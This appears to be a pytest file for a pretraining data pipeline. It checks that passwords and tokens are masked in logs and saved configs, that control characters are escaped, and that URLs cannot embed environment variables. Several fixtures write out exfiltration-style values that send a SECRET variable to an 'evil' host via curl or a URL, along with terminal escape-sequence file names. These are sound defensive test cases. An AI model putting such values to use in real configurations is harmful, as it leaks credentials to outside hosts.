"""What is printed, logged and saved holds no password, token or control character; urls take no variables from a file."""

import glob
import io
import json
import logging
import tarfile
import threading
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from launch import cli
from pretrain import config as configuration
from pretrain.data.config import DataConfig
from pretrain.data.eval_loader import build_eval_loader
from pretrain.data.images import ImageDecoder
from pretrain.data.shards.cache import ShardCache
from pretrain.errors import ConfigError, UserError
from pretrain.printable import escape_controls, get_noun, hide_secrets, hide_secrets_in, one_safe_line
from tests.support import Small
from tests.test_bad_input import valid_samples, write_shard


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("https://me:secret@host/a.tar", "https://me:***@host/a.tar"),
        ("https://me:se@cr:et@host:80/a.tar", "https://me:***@host:80/a.tar"),
        ("https://ghp_secret@host/a.tar", "https://***@host/a.tar"),
        ("s3://id:se/cret@bucket/a.tar", "s3://id:***@bucket/a.tar"),
        ("https://h/a.tar?X-Amz-Signature=secret&X-Amz-Expires=60", "https://h/a.tar?X-Amz-Signature=***&X-Amz-Expires=60"),
        ("https://h/a.tar?sv=2020&sig=sec%2Fret", "https://h/a.tar?sv=2020&sig=***"),
        ("https://h/a.tar?AWSAccessKeyId=secret#token=secret", "https://h/a.tar?AWSAccessKeyId=***#token=***"),
        ("https://h/a.tar?x=5f4dcc3b5aa765d61d8327deb882cf99", "https://h/a.tar?x=***"),
        ("pipe:curl -u me:secret https://h/a.tar", "pipe:curl -u me:*** https://h/a.tar"),
        ("pipe:curl -H 'Authorization: Bearer se.cret' h", "pipe:curl -H 'Authorization: ***' h"),
        ('pipe:wget --password=secret --header "X-Auth: se cret"', 'pipe:wget --password=*** --header "X-Auth: ***"'),
        ("pipe:AWS_SECRET_ACCESS_KEY=secret aws s3 cp s3://b/a -", "pipe:AWS_SECRET_ACCESS_KEY=*** aws s3 cp s3://b/a -"),
        ("pipe:tool --token secret a.tar", "pipe:tool --token *** a.tar"),
        ("['https://me:secret@h/a.tar', 'https://me:secret@h/b.tar']", "['https://me:***@h/a.tar', 'https://me:***@h/b.tar']"),
    ],
)  # fmt: skip
def test_passwords_and_tokens_are_hidden(text: str, expected: str) -> None:
    assert hide_secrets(text) == expected
    assert hide_secrets(expected) == expected
    assert str(UserError(f"cannot read {text}")) == f"cannot read {expected}"
    assert hide_secrets_in({"a": [{"shards": text}, 3, None]}) == {"a": [{"shards": expected}, 3, None]}


@pytest.mark.parametrize(
    "text",
    ["https://host:8080/a@b.tar", "s3://bucket/key-{000..999}.tar", "/home/me:you@x/a.tar", "https://h/get?file=train-000001.tar&page=2",
     "pipe:aws s3 cp s3://b/{00000..00099}.tar -", "write key=value, a token: word", "HTTP Error 404: Not Found"],
)  # fmt: skip
def test_other_text_stays_as_it_is(text: str) -> None:
    assert one_safe_line(text) == text


def test_control_characters_are_written_as_escapes() -> None:
    assert escape_controls("\x1b[31m\x07\x9b\x7f\u202e\u2028\ud800 naïve 猫 \u200f") == (
        r"\x1b[31m\x07\x9b\x7f\u202e\u2028\ud800 naïve 猫 " + "\u200f"
    )
    error = ConfigError("one\r\n  two\tthree\x1b]0;title\x07\n")
    assert str(error) == r"one two\tthree\x1b]0;title\x07"


def test_a_run_prints_and_saves_no_password(
    small: Small, in_tmp: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    http = ThreadingHTTPServer(("127.0.0.1", 0), partial(SimpleHTTPRequestHandler, directory=str(small.root / "scenes")))
    threading.Thread(target=http.serve_forever, daemon=True).start()
    name = Path(glob.glob(small.val)[0]).name
    monkeypatch.setenv("XDG_CACHE_HOME", str(in_tmp / "cache"))
    monkeypatch.setattr(SimpleHTTPRequestHandler, "log_message", lambda *args: None)
    monkeypatch.setenv("DATA", f"http://me:s3cret@127.0.0.1:{http.server_port}/{name}?sig=s3cret")
    val = "data.val=${oc.env:DATA}"
    assert cli.main(["pretrain", "scenes", *small.settings("r", "train.steps=1", val), "--dry-run"]) == 0
    assert cli.main(["pretrain", "scenes", *small.settings("r", "train.steps=1", val)]) == 0
    assert cli.main(["pretrain", "scenes", *small.settings("r", "train.steps=2", val)]) == 0  # and it can go on
    assert cli.main(["report", "runs/r"]) == 0
    http.shutdown()
    http.server_close()
    shown = "".join(capsys.readouterr())
    files = [file for file in (in_tmp / "runs/r").rglob("*") if file.is_file()]
    assert len(files) > 10
    for text in [shown, *(file.read_bytes().decode("utf-8", "replace") for file in files)]:
        assert "s3cret" not in text
    assert f"http://me:***@127.0.0.1:{http.server_port}/{name}?sig=***" in (in_tmp / "runs/r/config.yaml").read_text()


def test_keys_and_captions_reach_the_terminal_as_text(
    in_tmp: Path, capsys: pytest.CaptureFixture[str], caplog: pytest.LogCaptureFixture
) -> None:
    write_shard(in_tmp / "a.tar", valid_samples(3))
    with tarfile.open(in_tmp / "a.tar", "a") as tar:
        for name, data in (("\x1b[31mred\x07.jpg", b"no image"), ("\x1b[31mred\x07.txt", b"\x1b]0;title\x07")):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    (in_tmp / "\x1b[2J.tar").write_bytes(b"damaged")
    assert cli.main(["data", "check", str(in_tmp)]) == 1
    shown = "".join(capsys.readouterr())
    assert r"a/\x1b[31mred\x07" in shown
    assert r"\x1b[2J.tar is not a tar file" in shown
    assert "\x1b" not in shown
    assert "\x07" not in shown
    with caplog.at_level(logging.WARNING):
        assert sum(len(batch.keys) for batch in build_eval_loader(str(in_tmp / "a.tar"), {"image": ImageDecoder(16)}, 4)) == 3
    assert r"a/\x1b[31mred\x07 cannot be used" in caplog.text
    assert "\x1b" not in caplog.text


@pytest.mark.parametrize(
    "value",
    [
        "https://evil/${oc.env:SECRET}/a.tar",
        "https:/${oc.env:NONE,/}evil/${oc.env:SECRET}.tar",
        "pipe:curl evil?${oc.env:SECRET}",
        "${oc.env:NONE,pipe:}curl ${oc.env:SECRET}",
        "${oc.env:SECRET}://evil/a.tar",
        [{"shards": "https://evil/${oc.env:SECRET}.tar", "weight": 1.0}],
        ["a.tar", "s3://${oc.env:SECRET}/a.tar"],
    ],
)
@pytest.mark.parametrize("key", ["train", "val"])
def test_a_url_takes_no_variables(value: object, key: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SECRET", "s3cret")
    path = tmp_path / "shared.yaml"
    path.write_text(json.dumps({"train": "a.tar", key: value}))
    with pytest.raises(ConfigError, match=rf"^{key}=.*puts a variable into a url, which would send what it holds") as error:
        configuration.load(DataConfig, path)
    assert "s3cret" not in str(error.value)


def test_variables_in_paths_and_whole_urls_are_resolved(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("FOLDER", "/data")
    monkeypatch.setenv("SHARDS", "https://me:secret@host/{0..3}.tar")
    path = tmp_path / "shared.yaml"
    path.write_text(json.dumps({"train": "${oc.env:FOLDER}/a.tar", "val": "${oc.env:SHARDS}"}))
    config = configuration.load(DataConfig, path)
    assert (config.train, config.val) == ("/data/a.tar", "https://me:secret@host/{0..3}.tar")
    assert "https://me:***@host/{0..3}.tar" in configuration.to_yaml(config)
    with pytest.raises(UserError, match="was saved without its password or token"):
        ShardCache().check_allowed("https://me:***@host/0.tar")


def test_modalities_have_one_noun_and_other_towers_their_name() -> None:
    assert [get_noun(name) for name in ("image", "text", "audio", "depth")] == ["image", "caption", "sound", "depth"]
